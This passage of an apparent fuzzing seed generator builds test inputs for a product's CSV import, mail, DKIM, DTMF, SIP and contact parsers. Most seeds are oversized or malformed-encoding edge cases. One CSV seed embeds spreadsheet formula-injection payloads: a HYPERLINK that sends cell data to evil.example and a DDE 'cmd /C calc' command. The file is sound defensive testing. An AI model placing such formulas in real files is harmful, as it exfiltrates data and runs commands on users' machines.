        "record-over-limit": b"\x80\x0f" + b"x" * (MIB + 10) + b"\n" + row,
        "quote-never-closed": b"\x80\x0f" + b'a,"' + b"x\n" * (MIB // 2),
        "many-fields": b"\x80\x7f" + b"," * 200_000 + b"\n",
        "nul-cr": b"\x80\x0f" + b"a\x00b,c\rd,e\r\n\"f\x00\"\r\n",
        "bom-semicolon": b"\x80\x8f" + b"\xef\xbb\xbfa;b\n1;2\n",
    }


def import_seeds():
    # Byte 0: profile (% 3), constituency column (4), the product's 1 MiB
    # record limit (8), batch size (% 7).
    native = open(os.path.join(ROOT, "fuzz/corpus/import/native.csv"), "rb").read()[1:]
    header = native.split(b"\n")[0]
    ncols = header.count(b",") + 1
    def record(n):
        return b"M9," + b"x" * n + b"," + b"," * (ncols - 3) + b"\n"
    return {
        "record-at-limit": b"\x08" + native + record(MIB - 200),
        "record-over-limit": b"\x08" + native + record(MIB + 10),
        "small-limit-over": b"\x00" + native + record(5000),
        "formula-cells": b"\x08" + header + b"\n" + b"=HYPERLINK(\"http://evil.example/?d=\"&A1,"
                         b"\"click\"),@SUM(1+1),+cmd|' /C calc'!A0,-1,\t=1,\r=2" +
                         b"," * max(0, ncols - 6) + b"\n",
        "many-rows": b"\x0b" + native + b"".join(
            b"M%d,Ann,Example,m%d@example.org,07700 900%03d,SW1A 1AA,Aldershot,current\n"
            % (i, i, i % 1000) for i in range(20_000)),
        "nul-and-surrogates": b"\x08" + header + b"\nM1,\xed\xa0\x80,\x00x,a@example.org\n",
    }


def contact_seeds():
    return {
        "long-name": ("Ann " * 16_000).encode(),
        "long-email": b"a" * 60_000 + b"@example.org",
        "long-phone": b"+44" + b"7" * 60_000,
        "nul": b"07700\x00900123",
        "lone-surrogate": b"\xed\xa0\x80@example.org",
        "overlong": b"\xc0\xaf\xe0\x80\xaf@example.org",
    }


def mail_seeds():
    # mail_fuzz reads with FuzzedDataProvider: strings from the front, the
    # choices from the back. A committed seed with a long text body.
    base = open(os.path.join(ROOT, "fuzz/corpus/mail/e6efffa3f64641459bb2d61eb67e03246d4be4c3"),
                "rb").read()
    return {"long-body": base[:200] + (b"x" * 2000 + b" ") * 120 + base[200:]}


def dkim_seeds():
    """Messages at the size limits of the signer's input: a body of 256 KiB
    of blank runs and empty lines, and a header block of many folded fields."""
    head = b"From: a@example.org\r\nSubject: x\r\n"
    return {
        "blank-runs": head + b"\r\n" + (b"a \t \t b" + b" " * 50 + b"\r\n\r\n") * 4000,
        "many-fields": b"".join(b"To: b%d@example.org,\r\n\t c@example.org  \r\n" % i
                                for i in range(3000)) + head + b"\r\nbody\r\n",
        "lf-only": (head + b"\r\nx\r\n").replace(b"\r\n", b"\n") * 1,
    }


def dtmf_seeds():
    """The key presses Debian's sip-tester ships as captures, as datagram
    sequences, and the SIP INFO bodies trunks send."""
    import struct
    seeds = {}
    captures = "/usr/share/sip-tester"
    frames = b""
    for key in ["1", "5", "9", "star", "pound"]:
        path = os.path.join(captures, f"dtmf_2833_{key}.pcap")
        if not os.path.exists(path):
            continue
        d = open(path, "rb").read()
        at, seq = 24, b""
        while at + 16 <= len(d):
            n = struct.unpack("<I", d[at + 8:at + 12])[0]
            frame = d[at + 16:at + 16 + n]
            at += 16 + n
            ip = frame[14:]
            udp = ip[(ip[0] & 15) * 4:]
            payload = udp[8:]
            seq += struct.pack(">H", len(payload)) + payload
        seeds[f"capture-{key}"] = b"\x00" + seq
        frames += seq
    seeds["captures-in-a-row"] = b"\x00" + frames
    seeds["info-relay"] = b"\x01application/dtmf-relay\nSignal=5\r\nDuration=160\r\n"
    seeds["info-plain"] = b"\x01application/dtmf\n#"
    seeds["info-long"] = b"\x01application/dtmf-relay\n" + b"Signal=" + b"1" * 2000
    return seeds


def sip_seeds():
    """Descriptions at the edges: many media lines, and one at the size limit."""
    head = b"v=0\r\no=p 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\n"
    many = head + b"".join(b"m=audio %d RTP/AVP 0 8\r\na=rtpmap:0 PCMU/8000\r\n" % (4000 + 2 * i)
                           for i in range(200))
    big = head + b"m=audio 4000 RTP/AVP 0\r\na=x:" + b"y" * (16 * 1024 - len(head) - 40) + b"\r\n"
    return {"many-media.sdp": many, "at-limit.sdp": big}


def leak_seeds():
    """A leaked export as it might turn up: renamed and reordered columns,
    other delimiters, pasted rows without a header, one canary of each kind."""
    return {
        "renamed.csv": b"Mobile;E-mail;Surname;Forename\r\n"
                       b"07700 900123;OLIVER.SMITH.K3X9Q2@example.net;Smith;Oliver\r\n",
        "pasted.tsv": b"Amelia\tJones\t0113 496 0001\nOliver\tSmith\t+447700900123\n",
        "quoted.csv": b'"name","email"\n"Zo\xc3\xab \xc3\x93 S\xc3\xbailleabh\xc3\xa1in",'
                      b'"zo.osuilleabhain.q0q0q0@example.com"\n',
    }


TARGETS = {
    "api": api_seeds, "json": json_seeds, "template": template_seeds, "policy": policy_seeds,
    "http": http_seeds, "csv": csv_seeds, "import": import_seeds, "contact": contact_seeds,
    "mail": mail_seeds, "contest": contest_seeds, "dtmf": dtmf_seeds,
    "sip": sip_seeds, "leak": leak_seeds, "dkim": dkim_seeds,
}


def dict_entry(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    out = ""
    for b in s:
        c = chr(b)
        out += "\\" + c if c in '\\"' else c if 0x20 <= b < 0x7f else f"\\x{b:02X}"
    return f'"{out}"'


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    out = sys.argv[1]
    os.makedirs(os.path.join(out, "dict"), exist_ok=True)
    for target, make in TARGETS.items():
        d = os.path.join(out, target)
        os.makedirs(d, exist_ok=True)
        for old in os.listdir(d):
            os.remove(os.path.join(d, old))
        for name, data in make().items():
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        committed = os.path.join(ROOT, "fuzz", "dict", target + ".dict")
        text = open(committed, encoding="utf-8").read() if os.path.exists(committed) else ""
        if target == "api":
            text += "\n# Generated from src/server/api_routes.h by fuzz/make_seeds.py\n"
            routes = [(r["method"], r["path"]) for r in api_routes()] + OTHER_ROUTES
            for method, path in routes:
                text += dict_entry(method + " " + path) + "\n"
            for r in api_routes():
                text += dict_entry(r["id"]) + "\n"
        with open(os.path.join(out, "dict", target + ".dict"), "w", encoding="utf-8") as f:
            f.write(text)


if __name__ == "__main__":
    main()
